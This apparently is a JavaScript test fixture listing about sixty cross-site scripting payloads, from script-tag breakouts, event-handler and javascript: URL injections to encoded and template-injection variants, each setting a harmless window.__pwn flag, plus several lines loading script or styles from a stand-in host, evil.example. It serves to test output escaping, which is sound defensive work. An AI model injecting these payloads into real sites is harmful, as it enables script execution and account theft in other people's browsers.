/**
 * Sixty texts that want to become a program where they are shown: each would set `window.__pwn`.
 * For tests of every place that shows what people wrote.
 */
const RUN = "window.__pwn=1";

/** Elements that run by themselves, plain and disguised. */
const elements = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</ScRiPt ><ScRiPt>${RUN}</ScRiPt>`,
  `<script src=data:,${RUN}></script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script type=module>${RUN}</script>`,
  `<!--><script>${RUN}</script-->`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x/>#x">`,
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import "//evil.example"</style>`,
  `<link rel=stylesheet href="//evil.example">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${RUN}"><button>x`,
  `<template><script>${RUN}</script></template>`,
];

/** Attributes, addresses, and states in scripts that a text wants to break out of. */
const escapes = [
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\\"><script>${RUN}</script>`,
  `";${RUN};//`,
  `';${RUN};//`,
  "`${window.__pwn=1}`",
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

export const hostileTexts: readonly string[] = [...elements, ...escapes];
